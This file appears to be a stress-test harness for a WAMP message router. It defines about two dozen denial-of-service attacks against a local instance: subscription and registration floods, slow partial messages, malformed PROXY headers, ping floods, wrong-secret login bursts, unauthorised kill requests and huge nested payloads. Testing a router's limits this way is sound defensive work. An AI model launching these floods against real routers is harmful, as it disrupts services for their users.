"""The attacks. Each is a function that attacks once, or for ever; the attacker calls it again and again."""

import contextlib
import itertools
import random
import socket
import struct
import time
from collections.abc import Callable
from dataclasses import dataclass, field

from attacker import Client, Scene, encoded, frame

COMPONENTS = 32  # the most that wildcards may have
PATTERNS = 1000  # the default of `max_patterns`
MEBI = 1 << 20
DENIED = {"roles": {"anonymous": [
    {"uri": "com.", "match": "prefix", "allow": {"call": True, "register": True, "publish": True, "subscribe": True}},
    {"uri": "com.secret.", "match": "prefix", "allow": {}},
]}}
SECRETS = {"auth": {"ticket": {f"user{n}": {"ticket": f"right{n}"} for n in range(10)},
                    "wampcra": {f"cra{n}": {"secret": f"right{n}"} for n in range(10)},
                    "anonymous": {"role": "anonymous"}}}


@dataclass(frozen=True)
class Attack:
    name: str
    does: str
    run: Callable[[Scene], None]
    processes: int = 1
    config: dict = field(default_factory=dict)


# ===== work =====


def publications(client: Client, topic: str, payload: str = "x", options: str = "{}"):
    while True:
        yield f'[16,{client.next()},{options},"{topic}",["{payload}"]]'.encode()


def subscribe_patterns(scene: Scene, patterns: list[str], match: str) -> None:
    for first in range(0, len(patterns), PATTERNS):
        client = scene.client().drain()
        client.pour(f'[32,{client.next()},{{"match":"{match}"}},"{pattern}"]'.encode()
                    for pattern in patterns[first : first + PATTERNS])


def wildcards(scene: Scene) -> None:
    """2,000 patterns of as many components as may be, of which each is either `a` or free, and one that has too many."""
    chance = random.Random(scene.number)
    patterns = [".".join(chance.choice(("a", "")) for _ in range(COMPONENTS)) for _ in range(2000)]
    subscribe_patterns(scene, [*patterns, ".".join([""] * 4000)], "wildcard")
    client = scene.client().drain()
    client.pour(publications(client, ".".join("a" * COMPONENTS)))


def prefixes(scene: Scene) -> None:
    """All prefixes of the longest URI."""
    longest = ("abcdefg." * 1024)[:8191]
    subscribe_patterns(scene, [longest[:size] for size in range(1, len(longest) + 1)], "prefix")
    client = scene.client().drain()
    client.pour(publications(client, longest))


def history(scene: Scene) -> None:
    client = scene.client()
    subscription = client.ask(32, {}, "com.attack.history")[2]
    client.drain()
    payload = "x" * 4000
    client.pour(itertools.islice(publications(client, "com.attack.history", payload), 16_000))
    client.pour(f'[48,{client.next()},{{}},"wamp.subscription.get_events",[{subscription}],{{"limit":16000}}]'.encode()
                for _ in itertools.repeat(None))


def retained(scene: Scene) -> None:
    client = scene.client().drain()
    client.pour(f'[16,{client.next()},{{"retain":true}},"com.attack.retained.t{n}",["x"]]'.encode()
                for n in range(200_000))
    for _ in range(100):  # with a client for each, so that the answers come to somebody new
        client = scene.client().drain()
        client.pour([f'[32,{client.next()},{{"match":"prefix","get_retained":true}},"com.attack."]'.encode()])


def retain(scene: Scene) -> None:
    client = scene.client().drain()
    payload = "x" * 1000
    client.pour(f'[16,{client.next()},{{"retain":true}},"com.attack.r{scene.number}.t{n}",["{payload}"]]'.encode()
                for n in itertools.count())


def exact(scene: Scene) -> None:
    """100,000 subscriptions, and one more; then the client leaves, and the next one comes."""
    client = scene.client()
    client.pour(f'[32,{client.next()},{{}},"com.attack.exact.t{n}"]'.encode() for n in range(100_001))
    read_until(client, 100_001)
    client.leave()


def read_until(client: Client, request: int) -> None:
    """Reads until the answer of that request."""
    marks = (f",{request},".encode(), f",{request}]".encode())
    rest = b""
    while not any(mark in rest for mark in marks):
        data = client.socket.recv(MEBI)
        if not data:
            client.scene.lost += 1
            return
        client.scene.count(data)
        rest = rest[-64:] + data


def registrations(scene: Scene) -> None:
    client = scene.client()
    client.pour(f'[64,{client.next()},{{}},"com.attack.p{scene.number}.t{n}"]'.encode() for n in range(100_001))
    read_until(client, 100_001)
    client.leave()


def flood(scene: Scene) -> None:
    """Publications as fast as possible, to ten subscribers of its own."""
    topic = f"com.attack.flood{scene.number}"
    for _ in range(10):
        client = scene.client()
        client.ask(32, {}, topic)
        client.drain()
    client = scene.client().drain()
    client.pour(publications(client, topic, "x" * 100))


def deaf(scene: Scene) -> None:
    """Twenty subscribers that read nothing, and a publisher of 1 MiB each time."""
    listeners = []
    for _ in range(20):
        client = scene.client()
        client.ask(32, {}, "com.attack.deaf")
        listeners.append(client)
    client = scene.client().drain()
    payload = "x" * MEBI
    client.pour(itertools.islice(publications(client, "com.attack.deaf", payload, '{"acknowledge":true}'), 2000))
    del listeners


# ===== connections =====


def crowd(scene: Scene) -> None:
    """Joins, and stays, as often as it is let in; then goes on knocking."""
    kept = []
    with contextlib.suppress(OSError, RuntimeError):
        while True:
            kept.append(scene.client().drain())
            scene.sent += 1
    for _ in range(1000):
        knock(scene)


def knock(scene: Scene) -> None:
    one = scene.connect()
    scene.sent += 1
    with contextlib.suppress(OSError):
        one.sendall(b"\x7f\xf1\0\0")
        answer = one.recv(4)
        scene.errors["RawSocket error 4" if answer[1:2] == b"\x40" else "end"] += 1
    one.close()


def handshakes(scene: Scene) -> None:
    """Connections that say nothing, or half of something, from eight addresses, as many as may be open."""
    kept = []
    for n in range(8000):
        one = scene.connect(scene.source(n % 8 + 1), web=n % 4 == 3)
        with contextlib.suppress(OSError):
            one.sendall((b"", b"\x7f\xf1", b"\x7f\xf1\0\0", b"GET /wamp HTTP/1.1\r\nHost: x\r\n")[n % 4])
        scene.drain(one)
        kept.append(one)
        scene.sent += 1


def churn(scene: Scene) -> None:
    """Joins and leaves, while somebody listens to both."""
    client = scene.client()
    client.ask(32, {}, "wamp.session.on_join")
    client.ask(32, {}, "wamp.session.on_leave")
    client.drain()
    for _ in range(100_000):
        scene.client().leave()
        scene.sent += 1


def dribble(scene: Scene) -> None:
    """500 sessions with a message of 16 MiB each, of which a quarter of a mebibyte comes, and then a byte now and then."""
    clients = [scene.client(scene.source(n % 8 + 1)).drain() for n in range(500)]
    for client in clients:
        client.socket.sendall((15 * MEBI).to_bytes(4, "big") + b'[16,1,{},"com.attack",["')
        client.socket.settimeout(0.05)
        with contextlib.suppress(OSError):
            client.socket.sendall(b"x" * (MEBI // 4))
        scene.sent += 1
    for client in itertools.cycle(clients):
        with contextlib.suppress(OSError):
            client.socket.sendall(b"x")
        time.sleep(0.0002)  # it is slow by design


def large_hello(scene: Scene) -> None:
    """Messages of 16 MiB of those who have not joined."""
    one = scene.connect()
    scene.drain(one)
    scene.sent += 1
    block = b"x" * MEBI
    with contextlib.suppress(OSError):
        one.sendall(b"\x7f\xf1\0\0" + (16 * MEBI - 1).to_bytes(4, "big") + b'[1,"realm1",{"x":"')
        for _ in range(15):
            one.sendall(block)


def junk(scene: Scene) -> None:
    """What begins like the PROXY protocol, in both versions, and goes on otherwise, or not at all."""
    binary = b"\r\n\r\n\0\r\nQUIT\n"
    starts = [b"PROXY TCP4 1.2.3.4.5 x 1 2\r\n", b"PROXY " + b"x" * 200, b"PROXY TCP4 1.2.3.4 ", b"PROXY UNKNOWN\r\n\r\n",
              binary + b"\x21\x11\xff\xff" + b"x" * 70_000, binary + b"\x2f\xff\0\1x", binary + b"\x21\x21\0\x24",
              binary + b"\x21\x11\0\x0c" + bytes(12)]
    kept = []
    for n in range(4000):
        one = socket.create_connection(("127.0.0.1", scene.port))
        with contextlib.suppress(OSError):
            one.sendall(starts[n % len(starts)])
        scene.drain(one)
        kept.append(one)
        scene.sent += 1


def raw_pings(scene: Scene) -> None:
    client = scene.client().drain()
    ping = (1 << 24 | 100).to_bytes(4, "big") + b"x" * 100
    while True:
        client.socket.sendall(ping * 500)
        scene.sent += 500


def web_pings(scene: Scene) -> None:
    one = scene.connect(web=True)
    one.sendall(b"GET /wamp HTTP/1.1\r\nHost: 127.0.0.1\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
                b"Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n"
                b"Sec-WebSocket-Protocol: wamp.2.json\r\n\r\n")
    assert b" 101 " in one.recv(4096)
    scene.drain(one)

    def masked(opcode: int, data: bytes) -> bytes:
        size = struct.pack("!BB", 0x80 | opcode, 0x80 | len(data))
        return size + bytes(4) + data

    one.sendall(masked(1, b'[1,"realm1",{"roles":{"caller":{}}}]'))
    pings = masked(9, b"x" * 100) * 500
    while True:
        one.sendall(pings)
        scene.sent += 500


# ===== refusals =====


def wrong_secrets(scene: Scene) -> None:
    """Three hundred logins at a time with a wrong ticket, or a wrong signature; of names that are known, and not."""
    waiting = []
    for n in range(300):
        client = Client(scene, scene.connect(scene.source(n % 200 + 1)))
        client.socket.sendall(b"\x7f\xf1\0\0")
        method = ("ticket", "wampcra")[n % 2]
        name = ("user" if method == "ticket" else "cra") + str(n % 20)
        client.socket.sendall(encoded([1, "realm1", {"roles": ROLES_OF_CALLER, "authid": name, "authmethods": [method]}]))
        client.socket.sendall(encoded([5, "wrong", {}]))
        scene.sent += 1
        waiting.append(client)
    for client in waiting:
        with contextlib.suppress(OSError):
            client.socket.settimeout(10)
            while data := client.socket.recv(4096):
                scene.count(data)
        client.leave()


ROLES_OF_CALLER = {"caller": {}}


def refused_rights(scene: Scene) -> None:
    client = scene.client().drain()

    def requests():
        while True:
            yield f'[48,{client.next()},{{}},"com.secret.call"]'.encode()
            yield f'[16,{client.next()},{{"acknowledge":true}},"com.secret.topic"]'.encode()
            yield f'[32,{client.next()},{{"match":"wildcard"}},"com..topic"]'.encode()
            yield f'[64,{client.next()},{{"match":"prefix"}},"com.secret"]'.encode()

    client.pour(requests())


def kills(scene: Scene) -> None:
    client = scene.client().drain()

    def requests():
        while True:
            yield f'[48,{client.next()},{{}},"wamp.session.kill",[{client.id + 1}]]'.encode()
            yield f'[48,{client.next()},{{}},"wamp.session.kill_all"]'.encode()
            yield f'[48,{client.next()},{{}},"wamp.session.kill_by_authrole",["anonymous"]]'.encode()

    client.pour(requests())


def lists(scene: Scene) -> None:
    """Questions about 800 sessions and 20,000 subscriptions and registrations."""
    for n in range(800):
        scene.client(scene.source(n % 8 + 1)).drain()
    other = scene.client().drain()
    other.pour(f'[32,{other.next()},{{}},"com.attack.list.t{n}"]'.encode() for n in range(20_000))
    other.pour(f'[64,{other.next()},{{}},"com.attack.list.t{n}"]'.encode() for n in range(20_000))
    client = scene.client().drain()

    def requests():
        while True:
            for name in ("session.list", "session.count", "subscription.list", "registration.list"):
                yield f'[48,{client.next()},{{}},"wamp.{name}"]'.encode()
            yield f'[48,{client.next()},{{}},"wamp.subscription.match",["com.attack.list.t1"]]'.encode()

    client.pour(requests())


# ===== what is kept =====


def pending(scene: Scene) -> None:
    """A callee that never answers, three callers with as many calls as they may have, and then all leave."""
    callee = scene.client()
    callee.ask(64, {}, f"com.attack.silent{scene.number}")
    callee.drain()
    callers = [scene.client().drain() for _ in range(3)]
    for caller in callers:
        caller.pour(f'[48,{caller.next()},{{}},"com.attack.silent{scene.number}",["x"]]'.encode()
                    for _ in range(120_000))
    for client in (*callers, callee):
        client.leave()


def testaments(scene: Scene) -> None:
    """Sessions that leave testaments of more than they may, all of which somebody hears of."""
    listener = scene.client()
    listener.ask(32, {}, "com.attack.testament")
    listener.drain()
    for _ in range(1000):
        client = scene.client().drain()
        payload = "x" * 1000
        client.pour(f'[48,{client.next()},{{}},"wamp.session.add_testament",["com.attack.testament",["{payload}"],{{}}]]'
                    .encode() for _ in range(2000))
        client.socket.shutdown(socket.SHUT_WR)


def shared(scene: Scene) -> None:
    """A procedure of 500 callees, of which each passes its calls on to the next one, and 500 more that do nothing."""
    name = f"com.attack.shared{scene.number}"
    callees = []
    for n in range(500):
        client = scene.client(scene.source(n % 8 + 1))
        client.ask(64, {"invoke": "random"}, name)
        callees.append(client)
    refuse_calls(scene, callees, name)


def refuse_calls(scene: Scene, callees: list[Client], name: str) -> None:
    import selectors

    caller = scene.client().drain()
    watched = selectors.DefaultSelector()
    for callee in callees:
        watched.register(callee.socket, selectors.EVENT_READ, callee)
    while True:
        caller.pour(f'[48,{caller.next()},{{}},"{name}",["x"]]'.encode() for _ in range(20))
        for key, _ in watched.select(0.01):
            data = key.data.socket.recv(65536)
            answers, at = [], 0
            while at + 4 <= len(data):
                size = int.from_bytes(data[at : at + 4], "big")
                words = data[at + 4 : at + 4 + size].split(b",", 2)
                if words[0] == b"[68":
                    answers.append(frame(b'[8,68,%s,{},"wamp.error.unavailable"]' % words[1]))
                at += 4 + size
            scene.sent += len(answers)
            key.data.socket.sendall(b"".join(answers))


def lists_of_receivers(scene: Scene) -> None:
    """Publications for 300,000 sessions, and not for as many."""
    client = scene.client()
    client.ask(32, {}, "com.attack.lists")
    client.drain()
    ids = ",".join(str(7_000_000_000_000_000 + n) for n in range(300_000))
    names = ",".join(f'"name{n}"' for n in range(300_000))
    options = (f'{{"eligible":[{ids}]}}', f'{{"exclude":[{ids}]}}', f'{{"eligible_authid":[{names}]}}',
               f'{{"exclude_authrole":[{names}]}}')
    client.pour(f'[16,{client.next()},{options[n % 4]},"com.attack.lists"]'.encode() for n in itertools.count())


def deep(scene: Scene) -> None:
    """Messages of the largest size: nested as deeply as they can be, of many small things, and of one large one."""
    client = scene.client().drain()
    texts = ["[" * (4 * MEBI) + "]" * (4 * MEBI), "[" + "1," * (5 * MEBI) + "1]", '{"a":' * MEBI + "1" + "}" * MEBI,
             '["' + "\\u00e9" * MEBI + '"]']
    for text in texts:
        client.pour([f'[16,{client.next()},{{"acknowledge":true}},"com.attack.deep",{text}]'.encode()])
        time.sleep(0.05)  # so that what is refused with the end of the connection has come before the next one


ATTACKS = [
    Attack("wildcards", "2,000 wildcards of 32 components, and publications that match them", wildcards),
    Attack("prefixes", "8,191 prefixes, and publications that match them all", prefixes),
    Attack("history", "`get_events` of 64 MiB, again and again", history, config={"event_history": 100_000}),
    Attack("retained", "`get_retained` over 200,000 topics, of a hundred sessions", retained),
    Attack("retain", "retained events for ever new topics", retain),
    Attack("exact", "100,000 subscriptions of one session, which leaves then, again and again", exact),
    Attack("registrations", "100,000 registrations, in the same way", registrations),
    Attack("flood", "two that flood the realm with publications to ten subscribers each", flood, processes=2),
    Attack("deaf", "20 deaf subscribers, and publications of 1 MiB", deaf, config={"memory_limit": 256 * MEBI}),
    Attack("crowd", "sessions of one address, as many as may be, and more", crowd),
    Attack("handshakes", "8,000 connections that never join, again and again", handshakes),
    Attack("churn", "joining and leaving, as fast as possible", churn, processes=2),
    Attack("dribble", "500 sessions whose messages of 15 MiB do not come to their end", dribble,
           config={"memory_limit": 256 * MEBI, "message_timeout": 3}),
    Attack("large-hello", "messages of 16 MiB before joining", large_hello, processes=2),
    Attack("junk", "what is not quite the PROXY protocol", junk),
    Attack("raw-pings", "pings of RawSocket", raw_pings, processes=2),
    Attack("web-pings", "pings of WebSocket", web_pings, processes=2),
    Attack("wrong-secrets", "logins with wrong secrets", wrong_secrets, processes=2, config=SECRETS),
    Attack("refused-rights", "requests without the right to them", refused_rights, processes=2, config=DENIED),
    Attack("kills", "kills without the right to them", kills, processes=2, config=DENIED),
    Attack("lists", "the lists of 800 sessions, 20,000 subscriptions and registrations", lists),
    Attack("pending", "360,000 calls that are never answered, and are then left", pending),
    Attack("testaments", "testaments of more than 1 MiB, of one session after the other", testaments),
    Attack("shared", "a procedure of 500 callees that are all unavailable", shared),
    Attack("receivers", "lists of 300,000 receivers, eligible or excluded", lists_of_receivers),
    Attack("deep", "messages of 8 MiB that are hard to read", deep),
]
